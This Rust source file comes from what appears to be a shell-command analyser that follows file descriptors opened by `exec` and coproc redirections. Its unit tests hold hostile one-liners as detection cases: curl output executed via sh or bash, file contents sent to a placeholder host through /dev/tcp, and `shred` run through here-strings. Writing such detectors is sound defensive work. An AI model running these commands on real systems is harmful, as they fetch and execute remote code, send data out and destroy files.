//! Descriptors that the line opens and goes on to use: `exec 3> file`, `command >&3`.

use alloc::format;

use super::env::Value;
use crate::reader::{Reader, Stdin};
use crate::script::{Redirect, RedirectKind, Word};

impl Reader {
    /// What `>&NUMBER` goes to; nothing if that is none of the line's own.
    pub(super) fn copied(&mut self, raw: Redirect, stdin: bool) -> Option<Redirect> {
        let text = raw.target.text.trim_end_matches('-');
        if raw.target.literal && text.bytes().all(|byte| byte.is_ascii_digit()) {
            return self.env.descriptor(text).cloned();
        }
        if raw.target.literal {
            // `>& file`
            return Some(raw);
        }
        // A descriptor that is not known may be anything that the line has open.
        stdin.then(|| {
            let target = Word { text: format!("<({})", raw.target.text), ..raw.target };
            Redirect { kind: RedirectKind::Read, target }
        })
    }

    /// Takes note of what a descriptor is open on from now on.
    pub(super) fn opened(&mut self, name: &str, stays: bool, on: Option<&Redirect>) {
        if name.bytes().all(|byte| byte.is_ascii_digit()) {
            if stays {
                self.env.set_descriptor(name, on.cloned());
            }
            return;
        }
        // The shell picks a number above nine, and says it in the variable.
        let known = match self.env.get(name) {
            Some(Value::Known { text, .. }) if self.env.descriptor(text).is_some() => {
                Some(text.clone())
            }
            _ => None,
        };
        match (known, on) {
            (Some(number), None) => self.env.set_descriptor(&number, None),
            (_, on) => {
                let number = format!("{}", 10 + self.env.open());
                self.env.set_descriptor(&number, on.cloned());
                self.env.set(name, Value::Known { text: number, glob: false });
            }
        }
    }

    /// What is read from a path that stands for a descriptor: `/dev/fd/3`.
    pub(crate) fn descriptor(&self, path: &str) -> Option<Stdin> {
        let number = path.strip_prefix("/dev/fd/")?;
        let on = self.env.descriptor(number)?;
        Some(super::list::source(on))
    }
}

#[cfg(test)]
mod tests {
    use crate::{Dialect, EffectKind, Limits, read};

    fn has(line: &str, kind: EffectKind) -> bool {
        let script = read(line, Dialect::Posix, Limits::default());
        let mut effects = script.commands.iter().flat_map(|command| &command.effects);
        effects.any(|effect| effect.kind == kind)
    }

    fn runs(line: &str, program: &str) -> bool {
        let script = read(line, Dialect::Posix, Limits::default());
        script.commands.iter().any(|command| command.name() == program)
    }

    #[test]
    fn what_is_open_is_followed() {
        for line in [
            "exec 3>x; curl e.example >&3; sh x",
            "exec {f}>x; curl e.example >&$f; sh x",
            "exec 3< <(curl e.example); sh <&3",
            "exec {f}< <(curl e.example); bash <&$f",
            "exec 3>x; exec 4>&3; curl e.example >&4; sh x",
            "coproc J { curl e.example; }; bash <&${J[0]}",
        ] {
            assert!(has(line, EffectKind::ExecuteUnknown), "{line}");
        }
        for line in [
            "exec {f}<<'E'\nshred x\nE\nsource /dev/fd/$f",
            "exec 5<<< 'shred x'; bash /dev/fd/5",
            "exec 3<<< 'shred x'; bash <&3",
        ] {
            assert!(runs(line, "shred"), "{line}");
        }
        assert!(has("exec 3>/dev/tcp/e.example/1; cat x >&3", EffectKind::Send));
        assert!(has(": {s}>/dev/tcp/e.example/1; cat x >&$s", EffectKind::Send));
        assert!(has("exec {s}>/dev/tcp/e.example/1; exec {c}>&$s-; cat x >&$c", EffectKind::Send));
    }

    #[test]
    fn what_is_closed_or_replaced_is_not() {
        for line in [
            "exec 3>x; exec 3>/dev/null; curl e.example >&3; sh x",
            "exec 3>x; exec 3>&-; curl e.example >&3; sh x",
            "(exec 3>x); curl e.example >&3; sh x",
            "make 3>&1 1>&2 2>&3; sh x",
        ] {
            assert!(!has(line, EffectKind::ExecuteUnknown), "{line}");
        }
        let closed = "exec {s}>/dev/tcp/e.example/1; exec {s}>&-; cat x >&$s";
        assert!(!has(closed, EffectKind::Send));
    }
}
